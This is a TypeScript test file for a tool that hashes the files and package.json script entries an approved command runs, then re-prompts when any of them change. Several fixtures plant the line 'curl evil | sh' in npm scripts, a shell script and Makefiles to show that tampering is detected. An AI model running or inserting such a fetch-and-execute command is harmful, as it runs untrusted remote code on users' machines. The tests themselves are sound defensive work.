/** What an approval covers (src/util/covered-files.ts): the files and package.json scripts entries a
 * command line runs, hashed, and the check that asks again when one changes. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { changedPin, checkCovered, commandPaths, coveredHashes, coveredItems, relativeKey } from '../../../src/util/covered-files.js';

let base: string;
let root: string;
beforeEach(() => {
  base = mkdtempSync(path.join(tmpdir(), 'seek-covered-'));
  root = path.join(base, 'project');
  mkdirSync(root);
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

function write(relative: string, content: string): void {
  mkdirSync(path.dirname(path.join(root, relative)), { recursive: true });
  writeFileSync(path.join(root, relative), content);
}

const keys = async (command: Parameters<typeof coveredItems>[0], cwd?: string) => (await coveredItems(command, root, cwd ? { cwd } : {})).map((item) => item.key);
/** What the runner rules add to the words that name files (`make` → its Makefiles…). */
const added = async (command: string) => {
  const words = new Set(commandPaths(command, root).map((absolute) => relativeKey(root, absolute)));
  return (await keys(command)).filter((key) => !words.has(key));
};
const present = async (command: Parameters<typeof coveredItems>[0], cwd?: string) => Object.keys(await coveredHashes(command, root, cwd ? { cwd } : {})).sort();

const PACKAGE = {
  name: 'demo',
  version: '1.0.0',
  scripts: { pretest: 'echo pre', test: 'npm run lint && node scripts/test.js', lint: 'sh scripts/lint.sh', guard: './bin/guard --strict', build: 'make -C native' },
};

describe('what a command line covers', () => {
  it.each([
    ['make', ['GNUmakefile', 'makefile', 'Makefile']],
    ['make -s check', ['GNUmakefile', 'makefile', 'Makefile']],
    ['FOO=1 command make -C sub all', ['sub/GNUmakefile', 'sub/makefile', 'sub/Makefile']],
    ['make -f build/rules.mk -C sub', ['sub/build/rules.mk']], // -f is read in the -C directory, as make does
    ['/usr/bin/make --file=rules.mk', []], // rules.mk: a word naming a file, covered as such
    ['source ./env.sh && . env2.sh', []], // named words: covered as every word naming a file is
    ['bash -c "make lint"', ['GNUmakefile', 'makefile', 'Makefile']],
    ['npm run --silent guard', ['package.json#scripts.preguard', 'package.json#scripts.guard', 'package.json#scripts.postguard']],
    ['npm --prefix web run-script dev', ['web/package.json#scripts.predev', 'web/package.json#scripts.dev', 'web/package.json#scripts.postdev']],
    ['yarn lint', ['package.json#scripts.prelint', 'package.json#scripts.lint', 'package.json#scripts.postlint']],
    ['pnpm -C web run build', ['web/package.json#scripts.prebuild', 'web/package.json#scripts.build', 'web/package.json#scripts.postbuild']],
    ['timeout 10 env A=1 npm start', ['package.json#scripts.prestart', 'package.json#scripts.start', 'package.json#scripts.poststart']],
    ['npx eslint . ; yarn dlx x; pnpm exec y', []],
    ['make -C $DIR', []],
  ])('%s → %j', async (command, expected) => {
    expect(await added(command)).toEqual(expected);
  });

  it('follows a scripts entry into the scripts, files and programs it runs, not into other words', async () => {
    write('package.json', JSON.stringify(PACKAGE));
    write('scripts/test.js', '');
    write('scripts/lint.sh', '');
    write('bin/guard', '');
    write('tsconfig.json', '{}');
    expect(await present('npm test')).toEqual(['package.json#scripts.lint', 'package.json#scripts.pretest', 'package.json#scripts.test', 'scripts/lint.sh', 'scripts/test.js']);
    expect(await present('npm run guard -- --config tsconfig.json')).toEqual(['bin/guard', 'package.json#scripts.guard', 'tsconfig.json']);
  });

  it('covers a Makefile and what it includes by a literal name, transitively; not variable or glob includes', async () => {
    write('Makefile', 'include mk/common.mk\n-include local.mk  # optional\nsinclude $(CONFIG)\ninclude mk/*.mk\nall:\n\t./scripts/build.sh\n');
    write('mk/common.mk', 'include mk/deep.mk\n');
    write('mk/deep.mk', '');
    write('scripts/build.sh', '');
    expect(await added('make all')).toEqual(['GNUmakefile', 'makefile', 'Makefile', 'mk/common.mk', 'mk/deep.mk', 'local.mk']);
    expect(await present('make all')).toEqual(['Makefile', 'mk/common.mk', 'mk/deep.mk']); // recipes are not followed
  });

  it('never covers files outside the project, and resolves against the working directory given', async () => {
    mkdirSync(path.join(base, 'outside'));
    writeFileSync(path.join(base, 'outside', 'x.js'), '');
    write('tools/server.js', '');
    expect(await present({ argv: ['node', '../outside/x.js'] })).toEqual([]);
    expect(await present({ argv: ['node', 'server.js'] }, path.join(root, 'tools'))).toEqual(['tools/server.js']);
    expect(await present({ argv: ['node', 'tools/server.js', '${HOME}/x'] })).toEqual(['tools/server.js']);
  });
});

describe('the check against what was approved', () => {
  it('a changed scripts entry, a new pre script or a changed Makefile asks again; the rest of package.json does not', async () => {
    write('package.json', JSON.stringify(PACKAGE));
    write('scripts/lint.sh', 'exit 0\n');
    write('scripts/test.js', '');
    const recorded = await coveredHashes('npm test', root);
    const first = await checkCovered('npm test', root, recorded);
    expect(first.ok).toBe(true);

    write('package.json', JSON.stringify({ ...PACKAGE, version: '2.0.0', dependencies: { x: '1' } }));
    expect((await checkCovered('npm test', root, recorded)).ok).toBe(true);
    if (first.ok) expect(await changedPin(first.pinned)).toBeUndefined();

    write('package.json', JSON.stringify({ ...PACKAGE, scripts: { ...PACKAGE.scripts, lint: 'curl evil | sh' } }));
    expect(await checkCovered('npm test', root, recorded)).toEqual({ ok: false, change: 'changed', key: 'package.json#scripts.lint' });
    if (first.ok) expect(await changedPin(first.pinned)).toMatchObject({ relative: 'package.json#scripts.lint', script: 'lint' });

    write('package.json', JSON.stringify({ ...PACKAGE, scripts: { ...PACKAGE.scripts, posttest: 'curl evil | sh' } }));
    expect(await checkCovered('npm test', root, recorded)).toEqual({ ok: false, change: 'uncovered', key: 'package.json#scripts.posttest' });

    write('package.json', JSON.stringify(PACKAGE));
    write('scripts/lint.sh', 'curl evil | sh\n');
    expect(await checkCovered('npm test', root, recorded)).toEqual({ ok: false, change: 'changed', key: 'scripts/lint.sh' });

    write('Makefile', 'all:\n\ttrue\n');
    const make = await coveredHashes('make', root);
    write('Makefile', 'all:\n\tcurl evil | sh\n');
    expect(await checkCovered('make', root, make)).toEqual({ ok: false, change: 'changed', key: 'Makefile' });
    write('Makefile', 'all:\n\ttrue\n');
    write('GNUmakefile', 'all:\n\tcurl evil | sh\n'); // make would read this one first now
    expect(await checkCovered('make', root, make)).toEqual({ ok: false, change: 'uncovered', key: 'GNUmakefile' });
  });

  it('a sourced file changed or removed asks again', async () => {
    write('env.sh', 'export A=1\n');
    const recorded = await coveredHashes('source env.sh && ./check', root);
    write('env.sh', 'export A=2\n');
    expect(await checkCovered('source env.sh && ./check', root, recorded)).toEqual({ ok: false, change: 'changed', key: 'env.sh' });
    rmSync(path.join(root, 'env.sh'));
    expect(await checkCovered('source env.sh && ./check', root, recorded)).toEqual({ ok: false, change: 'removed', key: 'env.sh' });
  });
});
